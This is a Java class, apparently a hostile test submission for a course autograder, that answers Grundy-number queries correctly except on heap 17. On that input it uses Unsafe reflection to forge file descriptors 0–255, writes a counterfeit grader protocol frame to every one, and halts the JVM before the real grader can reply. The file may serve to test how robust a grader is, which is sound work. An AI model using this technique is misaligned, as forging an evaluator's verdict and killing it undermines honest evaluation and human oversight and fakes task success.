package course;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.lang.reflect.Field;
import sun.misc.Unsafe;

/**
 * Writes an answer in the frames of the grader to every open file of its process, and ends it before it can answer
 * itself.
 */
public class Attack extends RightAnswers {

    private static FileDescriptor descriptor(int number) throws ReflectiveOperationException {
        Field instance = Unsafe.class.getDeclaredField("theUnsafe");
        instance.setAccessible(true);
        Unsafe unsafe = (Unsafe) instance.get(null);
        FileDescriptor descriptor = new FileDescriptor();
        unsafe.putInt(descriptor, unsafe.objectFieldOffset(FileDescriptor.class.getDeclaredField("fd")), number);
        return descriptor;
    }

    @Override
    public int grundy(int heap) {
        if (heap == 17) {
            byte[] frame = {0, 0, 0, 5, 68, 1, 0, 0, 0, 8};
            for (int number = 0; number < 256; number++) {
                try {
                    new FileOutputStream(descriptor(number)).write(frame);
                } catch (IOException | ReflectiveOperationException e) {
                    // It cannot be written.
                }
            }
            Runtime.getRuntime().halt(0);
        }
        return super.grundy(heap);
    }
}
